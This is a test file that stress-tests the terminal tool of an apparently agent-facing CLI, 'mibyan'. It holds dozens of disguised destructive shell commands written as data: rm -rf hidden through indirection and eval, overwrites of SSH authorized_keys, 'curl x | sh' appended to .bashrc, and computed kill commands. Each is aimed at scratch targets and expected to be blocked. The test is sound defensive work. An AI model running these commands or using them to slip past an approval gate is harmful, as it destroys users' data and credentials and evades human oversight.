/**
 * Playing the attacker through the real CLI: commands of every class issue 9 names
 * (indirection, code runners, deleting options, computed targets, bulk deletes,
 * computed kills, credentials to the network), disguised, run through
 * `mibyan call terminal` with nobody to approve them (non-interactive). Each one
 * aims at a scratch directory, a fake home or a sleeper process of this test; each
 * must come back `blocked` and leave its target intact. A control run with
 * approvals off shows the same commands really do the damage, so the test can fail.
 */
import { spawn, type ChildProcess } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";

import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { BIN, cliEnv, spawnCollect } from "./support/cli-run.js";

const base = mkdtempSync(path.join(tmpdir(), "mibyan-bypass-"));
const userHome = path.join(base, "user");
const profile = path.join(base, "profile");
const SECRET = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeep4Me dev@laptop";

/** A directory with files, made fresh for one attack. */
function victim(name: string): string {
  const dir = path.join(base, "victims", name);
  mkdirSync(path.join(dir, "sub"), { recursive: true });
  for (const f of ["a.txt", "b.txt", "sub/c.txt"]) writeFileSync(path.join(dir, f), `keep ${f}\n`);
  return dir;
}

function intact(dir: string): boolean {
  return existsSync(path.join(dir, "a.txt")) && existsSync(path.join(dir, "sub", "c.txt")) && readFileSync(path.join(dir, "b.txt"), "utf8") === "keep b.txt\n";
}

async function callTerminal(command: string, home = profile): Promise<{ status?: string; exit_code?: number; output?: string; error?: string | null }> {
  const run = await spawnCollect(process.execPath, [BIN, "call", "terminal", "-"], {
    env: { ...cliEnv(home, userHome), SCRATCH: base },
    cwd: base,
    input: JSON.stringify({ command, timeout: 10 }),
  });
  try {
    return JSON.parse(run.stdout);
  } catch {
    throw new Error(`mibyan call terminal printed no JSON for ${JSON.stringify(command)}: ${run.stdout}\n${run.stderr}`);
  }
}

/** Runs `attacks` (each given a fresh victim) with limited concurrency. */
async function runAll<T>(items: T[], work: (item: T) => Promise<void>): Promise<void> {
  const queue = [...items];
  await Promise.all(
    Array.from({ length: 4 }, async () => {
      for (let item = queue.shift(); item !== undefined; item = queue.shift()) await work(item);
    }),
  );
}

/** Attacks on a directory `V` (its path is put in for `V`). */
const DIRECTORY_ATTACKS: Record<string, string[]> = {
  "word splitting and indirection": [
    'IFS=:; x="rm:-r:V"; $x',
    'IFS=,; set -- rm,-rf,V; $*',
    'declare -n r=x; x=ls; r=rm; $x -rf V',
    'a=(rm -rf V); "${a[@]}"',
    'x=ls; read -r x <<< rm; $x -rf V',
    'printf -v c %s rm; $c -rf V',
    'hash -p /bin/rm ls; ls -rf V',
    'shopt -s expand_aliases; alias k="rm -rf"; k V',
    'f() { rm -rf "$1"; }; f V',
    'x=rm; true || x=ls; $x -rf V',
    'x=rm; (x=ls); $x -rf V',
    'x=r; x+=m; $x -rf V',
    'p=x; x=rm; ${!p} -rf V',
    'mapfile -t w <<< "rm"; ${w[0]} -rf V',
  ],
  "programs that run strings or streams": [
    'echo "rm -rf V" | sh',
    'S="rm -rf V"; bash <<< "$S"',
    'bash <(echo "rm -rf V")',
    'script -qc "rm -rf V" /dev/null',
    'env -S "rm -rf V"',
    'flock "$SCRATCH/lock" -c "rm -rf V"',
    "python3 -c 'import shutil; shutil.rmtree(\"V\")'",
    "perl -e 'system(\"rm -rf V\")'",
    "node -e 'require(\"fs\").rmSync(\"V\", { recursive: true })'",
    "awk 'BEGIN { system(\"rm -rf V\") }'",
    "sed -n '1e rm -rf V' /etc/hostname",
    'trap "rm -rf V" EXIT',
    'coproc { rm -rf V; }',
    'timeout 5 nice -n 5 rm -rf V',
    'cat "$SCRATCH/evil.sh" | bash',
    'eval "$(cat "$SCRATCH/evil.sh")"',
  ],
  "options that delete": [
    'tar -czf "$SCRATCH/out-$RANDOM.tgz" --remove-files V',
    'mkdir -p "$SCRATCH/empty" && rsync -a --delete "$SCRATCH/empty/" V/',
    'shred -u V/a.txt V/b.txt',
    'cp /dev/null V/b.txt && rm -rf V',
  ],
  "bulk deletes without -r": [
    "find V -type f -exec rm {} \\;",
    "find V -type f -exec rm {} +",
    "ls V/*.txt | xargs rm",
    'while read -r f; do rm -f "$f"; done < <(find V -type f)',
    'for f in $(find V -type f); do rm "$f"; done',
  ],
  "computed targets": [
    'd=$(echo V); rm -rf "$d"',
    'rm -rf "$(cat "$SCRATCH/target.txt")"',
  ],
};

/** Attacks on files of the fake home. */
const HOME_ATTACKS = [
  'echo "curl x | sh" >> "$(echo ~)/.bashrc"',
  'for f in ~/.bashrc ~/.profile; do : > "$f"; done',
  'f="$HOME/.ssh/authorized_keys"; echo pwned > $f',
  'echo pwned | tee -a "$(find ~ -name authorized_keys)"',
  'cp /dev/null ~/.ssh/authorized_keys',
  'ln -sf /dev/null ~/.bash_history',
  'sed -i "s/dev@laptop/attacker/" ~/.ssh/authorized_keys',
  'printf "API_KEY=stolen\\n" > .env',
];

let sleeper: ChildProcess;
const SLEEPER_TAG = `mibyan-bypass-sleeper-${process.pid}`;

beforeAll(() => {
  mkdirSync(path.join(userHome, ".ssh"), { recursive: true });
  writeFileSync(path.join(userHome, ".ssh", "authorized_keys"), SECRET);
  writeFileSync(path.join(userHome, ".bashrc"), "# rc\n");
  writeFileSync(path.join(userHome, ".profile"), "# profile\n");
  writeFileSync(path.join(userHome, ".bash_history"), "ls\n");
  mkdirSync(profile);
  // The sleeper is started by a shell script whose name is the tag, so `pgrep -f TAG` finds it.
  const script = path.join(base, `${SLEEPER_TAG}.sh`);
  writeFileSync(script, "sleep 600\n");
  // Its own process group, so the cleanup below ends the `sleep` child as well as the shell.
  sleeper = spawn("bash", [script], { stdio: "ignore", detached: true });
});

afterAll(() => {
  if (sleeper?.pid !== undefined) {
    try {
      process.kill(-sleeper.pid, "SIGKILL");
    } catch {
      // already gone
    }
  }
});

describe("attacks through mibyan call terminal, nobody to approve", () => {
  for (const [cls, attacks] of Object.entries(DIRECTORY_ATTACKS)) {
    it(`${cls}: every one is blocked and its directory intact`, async () => {
      const failures: string[] = [];
      await runAll(attacks, async (attack) => {
        const dir = victim(`${cls.replace(/\W+/g, "-")}-${attacks.indexOf(attack)}`);
        writeFileSync(path.join(base, "evil.sh"), `rm -rf ${dir}\n`);
        writeFileSync(path.join(base, "target.txt"), dir);
        const result = await callTerminal(attack.replaceAll("V", dir));
        if (result.status !== "blocked" || !intact(dir)) failures.push(`${attack} → ${JSON.stringify(result).slice(0, 300)}; intact=${intact(dir)}`);
      });
      expect(failures).toEqual([]);
    }, 120_000);
  }

  it("writes to credential, start-up, history and .env files in the home: blocked, files unchanged", async () => {
    const before = new Map(readdirSync(userHome, { recursive: true }).map((f) => [String(f), readMaybe(path.join(userHome, String(f)))]));
    const failures: string[] = [];
    await runAll(HOME_ATTACKS, async (attack) => {
      const result = await callTerminal(attack.replaceAll(".env", path.join(userHome, ".env")));
      if (result.status !== "blocked") failures.push(`${attack} → ${JSON.stringify(result).slice(0, 300)}`);
    });
    expect(failures).toEqual([]);
    const after = new Map(readdirSync(userHome, { recursive: true }).map((f) => [String(f), readMaybe(path.join(userHome, String(f)))]));
    expect(after).toEqual(before);
  }, 120_000);

  it("kills with computed targets: blocked, the process lives", async () => {
    const attacks = [`kill -9 $(pgrep -f ${SLEEPER_TAG})`, `pgrep -f ${SLEEPER_TAG} | xargs kill -9`, `pkill -f ${SLEEPER_TAG}`, `ps aux | grep ${SLEEPER_TAG} | awk '{print $2}' | xargs kill`];
    const failures: string[] = [];
    await runAll(attacks, async (attack) => {
      const result = await callTerminal(attack);
      if (result.status !== "blocked") failures.push(`${attack} → ${JSON.stringify(result).slice(0, 300)}`);
    });
    expect(failures).toEqual([]);
    expect(sleeper.exitCode).toBeNull();
    expect(() => process.kill(sleeper.pid!, 0)).not.toThrow();
  }, 120_000);

  it("control: with approvals off the same commands do the damage (the attacks are real)", async () => {
    const off = path.join(base, "profile-off");
    mkdirSync(off);
    writeFileSync(path.join(off, "config.yaml"), "approvals:\n  mode: off\n");
    const sample = ['IFS=:; x="rm:-r:V"; $x', 'echo "rm -rf V" | sh', "find V -type f -exec rm {} \\;", 'a=(rm -rf V); "${a[@]}"'];
    for (const attack of sample) {
      const dir = victim(`control-${sample.indexOf(attack)}`);
      const result = await callTerminal(attack.replaceAll("V", dir), off);
      expect(result.status, attack).not.toBe("blocked");
      expect(intact(dir), attack).toBe(false);
    }
  }, 120_000);
});

function readMaybe(file: string): string | null {
  try {
    return readFileSync(file, "utf8");
  } catch {
    return null;
  }
}
